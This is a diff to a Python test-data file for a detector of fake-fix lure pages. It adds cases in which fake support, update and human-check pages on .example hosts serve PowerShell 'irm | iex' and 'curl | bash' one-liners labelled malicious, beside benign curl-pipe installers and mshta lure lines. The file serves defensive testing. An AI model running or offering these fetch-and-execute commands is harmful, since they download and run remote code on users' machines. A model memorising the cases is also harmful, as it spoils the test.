@@ -598,6 +598,42 @@ def lures() -> list[dict[str, str]]:
                     "malicious", LURE, "windows", UNRELATED_PAGES[7], "terminal"))  # fmt: skip
     out.append(case("dv-lure-defanged-runbox", "mshta hxxps://verify-cdn[.]example/a.hta",
                     "malicious", LURE, "windows", UNRELATED_PAGES[0], "run_dialog"))  # fmt: skip
+    # a fake check or fix page serving its own script vouches for nothing...
+    own_fakes = [
+        (
+            "https://teams-meeting-audio.example/join/4471",
+            "https://teams-meeting-audio.example/a.ps1",
+        ),
+        ("https://chrome-update-fix.example/", "https://chrome-update-fix.example/fix.ps1"),
+        (
+            "https://metamask-support-desk.example/ticket",
+            "https://metamask-support-desk.example/s.ps1",
+        ),
+        ("https://human-check.example/verify", "https://human-check.example/v.ps1"),
+        ("https://zoom-video-repair.example/mac", "https://zoom-video-repair.example/r.ps1"),
+    ]
+    for n, (page, script) in enumerate(own_fakes, start=1):
+        out.append(case(f"dv-lure-own-fake-{n}", f"irm {script} | iex", "malicious", LURE,
+                        "windows", page, "terminal"))  # fmt: skip
+        sh = script.rsplit(".", 1)[0] + ".sh"
+        out.append(case(f"dv-lure-own-fake-sh-{n}", f"curl -fsSL {sh} | bash", "malicious", LURE,
+                        "macos", page, "terminal"))  # fmt: skip
+    # ...while a tool named after a platform still vouches for its own script
+    named_after = [
+        ("https://slack-notify.example/docs/install", "https://get.slack-notify.example"),
+        ("https://outlook-mailmerge.example/", "https://outlook-mailmerge.example/install.sh"),
+        (
+            "https://docs.discord-webhooks.example/cli",
+            "https://discord-webhooks.example/install.sh",
+        ),
+        (
+            "https://teams-for-linux.example/download",
+            "https://dl.teams-for-linux.example/install.sh",
+        ),
+    ]
+    for n, (page, script) in enumerate(named_after, start=1):
+        out.append(ok(f"dv-own-named-after-{n}", f"curl -fsSL {script} | sh", "own-page", "linux",
+                      page))  # fmt: skip
     # defanged text beside a live command: the live command is judged
     out += [
         case("dv-lure-ioc-live-1", "IOCs: hxxps://evil[.]test/a\nmshta https://203.0.113.50/fix.hta",
